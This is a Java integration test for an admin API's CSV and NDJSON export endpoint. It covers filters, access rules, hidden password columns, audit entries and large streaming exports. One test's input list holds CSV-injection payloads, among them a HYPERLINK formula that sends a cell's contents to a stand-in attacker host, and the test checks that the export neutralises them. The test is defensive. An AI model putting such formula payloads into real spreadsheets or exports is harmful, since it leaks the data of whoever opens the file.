package dev.warden.it;

import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasKey;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.warden.it.support.Api;
import dev.warden.it.support.OpenApiContract;
import dev.warden.it.support.SharedDeployment;
import dev.warden.it.support.TestDb;
import dev.warden.it.support.Wait;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * {@code GET /admin-api/:resource/_export}: the list's filters, search and sort over every
 * matching row, CSV and NDJSON, the list access rules (policy, mod scope), no hidden or write-only column, an
 * {@code export} audit entry with the parameters and the row count, and 200,000 rows streamed in one answer.
 */
@SharedDeployment
class AdminExportIT {

    private Api.Identity admin;
    private String tag;

    @BeforeEach
    void data() throws Exception {
        admin = Api.signedIn("admin", null);
        tag = "export_" + TestDb.unique();
        for (int i = 1; i <= 5; i++) {
            TestDb.update(
                    "INSERT INTO warden_analytics_events (name, properties) VALUES (?, ?::jsonb)",
                    tag,
                    "{\"n\": " + i + ", \"text\": \"a, \\\"quoted\\\"\\nline " + i + "\"}");
        }
    }

    @AfterEach
    void cleanUp() throws Exception {
        TestDb.update("DELETE FROM warden_analytics_events WHERE name = ?", tag);
    }

    /** Splits RFC 4180 CSV text into records of fields. */
    static List<List<String>> csv(String text) {
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                record.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                record.add(field.toString());
                field.setLength(0);
                records.add(record);
                record = new ArrayList<>();
                i++;
            } else {
                field.append(c);
            }
        }
        assertTrue(record.isEmpty() && field.isEmpty(), "the CSV does not end with CRLF");
        return records;
    }

    private Response export(String cookie, String query) {
        Response r = Api.session(cookie).get("/admin-api/analyticsEvents/_export?" + query);
        List<String> problems = OpenApiContract.problems("GET", "/admin-api/analyticsEvents/_export", r);
        assertEquals(List.of(), problems, "the answer is not what openapi/warden-admin.yaml says");
        return r;
    }

    @Test
    void csvHasTheListsRowsInTheListsOrder() throws Exception {
        Response list = Api.session(admin.cookie())
                .queryParam("name", tag)
                .queryParam("_sort", "id")
                .queryParam("_order", "desc")
                .get("/admin-api/analyticsEvents");
        list.then().statusCode(200);
        List<Long> ids = list.jsonPath().getList("id", Long.class);
        assertEquals(5, ids.size());

        Response r = export(admin.cookie(), "name=" + tag + "&_sort=id&_order=desc&_start=0&_end=2");
        r.then()
                .statusCode(200)
                .header("Content-Type", org.hamcrest.Matchers.startsWith("text/csv"))
                .header("Content-Disposition", "attachment; filename=\"analyticsEvents.csv\"");
        List<List<String>> records = csv(r.asString());
        List<String> header = records.get(0);
        assertTrue(header.containsAll(List.of("id", "name", "properties")), header.toString());
        assertEquals(6, records.size(), "header + every matching row (the window is ignored)");
        for (int i = 0; i < 5; i++) {
            Map<String, Object> row = list.jsonPath().getMap("[" + i + "]");
            List<String> record = records.get(i + 1);
            assertEquals(String.valueOf(ids.get(i)), record.get(header.indexOf("id")));
            assertEquals(tag, record.get(header.indexOf("name")));
            Map<String, Object> properties =
                    JsonPath.from(record.get(header.indexOf("properties"))).getMap("$");
            assertEquals(row.get("properties"), properties);
            assertTrue(record.get(header.indexOf("properties")).contains("\\\"quoted\\\""));
            assertEquals(String.valueOf(row.get("created_at")), record.get(header.indexOf("created_at")));
            assertEquals(
                    row.get("user_id") == null ? "" : String.valueOf(row.get("user_id")),
                    record.get(header.indexOf("user_id")));
        }
        // the other filters and the search narrow the export exactly as they narrow the list
        List<List<String>> two =
                csv(export(admin.cookie(), "name=" + tag + "&_sort=id&id_in=" + ids.get(0) + "," + ids.get(3))
                        .then()
                        .statusCode(200)
                        .extract()
                        .asString());
        assertEquals(
                List.of(String.valueOf(ids.get(3)), String.valueOf(ids.get(0))),
                two.subList(1, 3).stream()
                        .map(rec -> rec.get(header.indexOf("id")))
                        .toList());
        assertEquals(3, two.size());
        assertEquals(6, csv(export(admin.cookie(), "_q=" + tag).asString()).size());
        assertEquals(
                1, csv(export(admin.cookie(), "name=" + tag + "x").asString()).size(), "no match: the header only");
    }

    @Test
    void ndjsonHasOneRowObjectALine() {
        Response list = Api.session(admin.cookie())
                .queryParam("name", tag)
                .queryParam("_sort", "id")
                .get("/admin-api/analyticsEvents");
        Response r = export(admin.cookie(), "format=ndjson&name=" + tag + "&_sort=id");
        r.then()
                .statusCode(200)
                .header("Content-Type", org.hamcrest.Matchers.startsWith("application/x-ndjson"))
                .header("Content-Disposition", "attachment; filename=\"analyticsEvents.ndjson\"");
        String[] lines = r.asString().split("\n");
        assertEquals(5, lines.length);
        for (int i = 0; i < lines.length; i++) {
            Map<String, Object> expected = new HashMap<>(list.jsonPath().getMap("[" + i + "]"));
            expected.remove("_id");
            expected.remove("_labels");
            assertEquals(expected, JsonPath.from(lines[i]).getMap("$"));
        }
    }

    @Test
    void hiddenAndWriteOnlyColumnsAreNeverExported() throws Exception {
        String email = "export-" + tag + "@example.com";
        TestDb.user(email, "Exported " + tag, "a secret password 1");
        Response r = Api.session(admin.cookie()).get("/admin-api/users/_export?email=" + email);
        r.then().statusCode(200);
        List<List<String>> records = csv(r.asString());
        assertEquals(2, records.size());
        assertFalse(records.get(0).contains("password_hash"), records.get(0).toString());
        assertFalse(records.get(0).contains("password"), records.get(0).toString());
        assertFalse(
                r.asString().contains("PBKDF2") || r.asString().toLowerCase().contains("pbkdf2"), r.asString());
        String ndjson = Api.session(admin.cookie())
                .get("/admin-api/users/_export?format=ndjson&email=" + email)
                .asString();
        assertFalse(ndjson.contains("password"), ndjson);
        Api.session(admin.cookie())
                .get("/admin-api/users/_export?password_hash_like=a")
                .then()
                .statusCode(422)
                .body("error.fields", hasKey("password_hash_like"));
    }

    @Test
    void csvCellsThatASpreadsheetWouldReadAsAFormulaAreNeutralisedNdjsonStaysRaw() throws Exception {
        // OWASP "CSV injection": a player's display name becomes a live formula in the operator's spreadsheet
        List<String> names = List.of(
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "+1+1",
                "-2+3",
                "@SUM(1,2)",
                "\ttabbed",
                "\rreturned",
                "plain name");
        Map<String, String> byEmail = new HashMap<>();
        for (int i = 0; i < names.size(); i++) {
            String email = "formula" + i + "-" + tag + "@example.com";
            TestDb.user(email, names.get(i), "a secret password 1");
            byEmail.put(email, names.get(i));
        }
        Response r = Api.session(admin.cookie()).get("/admin-api/users/_export?_sort=id&email_like=" + tag);
        r.then().statusCode(200);
        List<List<String>> records = csv(r.asString());
        List<String> header = records.get(0);
        assertEquals(names.size() + 1, records.size(), r.asString());
        for (List<String> record : records.subList(1, records.size())) {
            String name = byEmail.get(record.get(header.indexOf("email")));
            String expected = name.equals("plain name") ? name : "'" + name;
            assertEquals(expected, record.get(header.indexOf("display_name")), "the cell of " + name);
        }
        // the numbers stay numbers: only text cells are prefixed
        assertTrue(
                records.get(1).get(header.indexOf("id")).matches("[0-9]+"),
                records.get(1).toString());
        // NDJSON is data, not a spreadsheet: the values as they are
        String ndjson = Api.session(admin.cookie())
                .get("/admin-api/users/_export?format=ndjson&_sort=id&email_like=" + tag)
                .asString();
        List<String> exported = new ArrayList<>();
        for (String line : ndjson.split("\n")) {
            exported.add(JsonPath.from(line).getString("display_name"));
        }
        assertEquals(names, exported);
    }

    @Test
    void theListRulesDecideWhoMayExport() throws Exception {
        Api.anonymous().get("/admin-api/analyticsEvents/_export").then().statusCode(401);
        Api.Identity outOfScope = Api.signedIn("mod", "cloudSaves");
        Response forbidden = export(outOfScope.cookie(), "name=" + tag);
        forbidden.then().statusCode(403).body("error.code", equalTo("forbidden"));
        Api.Identity inScope = Api.signedIn("mod", "analyticsEvents");
        assertEquals(
                6,
                csv(export(inScope.cookie(), "name=" + tag)
                                .then()
                                .statusCode(200)
                                .extract()
                                .asString())
                        .size());
        // the audit log's list policy is admin-only: a mod scoped to it still may not export it
        Api.Identity auditMod = Api.signedIn("mod", "adminAudit");
        Api.session(auditMod.cookie())
                .get("/admin-api/adminAudit/_export")
                .then()
                .statusCode(403);
        Api.session(admin.cookie()).get("/admin-api/nothingHere/_export").then().statusCode(404);
        export(admin.cookie(), "format=xlsx").then().statusCode(422).body("error.fields", hasKey("format"));
        export(admin.cookie(), "nosuchcolumn=1").then().statusCode(422).body("error.fields", hasKey("nosuchcolumn"));
        export(admin.cookie(), "_sort=nosuchcolumn").then().statusCode(422);
    }

    @Test
    void anExportIsAuditedWithItsParametersAndRowCount() throws Exception {
        export(admin.cookie(), "format=ndjson&name=" + tag + "&_sort=id").then().statusCode(200);
        Wait.until(Duration.ofSeconds(10), "the export was audited", () -> !TestDb.column(
                        "SELECT id FROM warden_admin_audit WHERE operator_id = ? AND action = 'export'", admin.id())
                .isEmpty());
        List<String> payloads = TestDb.column(
                "SELECT payload::text FROM warden_admin_audit WHERE operator_id = ? "
                        + "AND action = 'export' AND resource = 'analyticsEvents' AND target_id IS NULL",
                admin.id());
        assertEquals(1, payloads.size(), payloads.toString());
        JsonPath payload = JsonPath.from(payloads.get(0));
        assertEquals("ndjson", payload.getString("format"));
        assertEquals(5, payload.getInt("rows"));
        assertTrue(payload.getBoolean("complete"));
        assertEquals(List.of(tag), payload.getList("params.name"));
        assertEquals(List.of("id"), payload.getList("params._sort"));
    }

    @Test
    void twoHundredThousandRowsStreamInOneAnswer() throws Exception {
        String bulk = tag + "_bulk";
        try {
            TestDb.update(
                    "INSERT INTO warden_analytics_events (name, properties) "
                            + "SELECT ?, jsonb_build_object('n', g, 'pad', repeat('x', 40)) FROM generate_series(1, 200000) g",
                    bulk);
            HttpRequest request = HttpRequest.newBuilder(URI.create(Api.baseUrl()
                            + "/admin-api/analyticsEvents/_export?format=csv&_sort=id&name="
                            + URLEncoder.encode(bulk, StandardCharsets.UTF_8)))
                    .header("Cookie", "warden_session=" + admin.cookie())
                    .timeout(Duration.ofMinutes(5))
                    .GET()
                    .build();
            HttpResponse<java.io.InputStream> response =
                    HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofInputStream());
            assertEquals(200, response.statusCode());
            long lines = 0;
            long previous = -1;
            try (BufferedReader reader =
                    new BufferedReader(new InputStreamReader(response.body(), StandardCharsets.UTF_8))) {
                String header = reader.readLine();
                assertTrue(header.startsWith("id,"), header);
                for (String line = reader.readLine(); line != null; line = reader.readLine()) {
                    long id = Long.parseLong(line.substring(0, line.indexOf(',')));
                    assertTrue(id > previous, "rows in id order");
                    previous = id;
                    lines++;
                }
            }
            assertEquals(200_000, lines);
            Wait.until(
                    Duration.ofSeconds(30),
                    "the big export was audited with its row count",
                    () -> TestDb.scalar(
                                    "SELECT count(*) FROM warden_admin_audit WHERE operator_id = ? AND action = 'export' "
                                            + "AND (payload->>'rows')::bigint = 200000 AND (payload->>'complete')::boolean",
                                    admin.id())
                            == 1);
        } finally {
            TestDb.update("DELETE FROM warden_analytics_events WHERE name = ?", bulk);
        }
    }
}
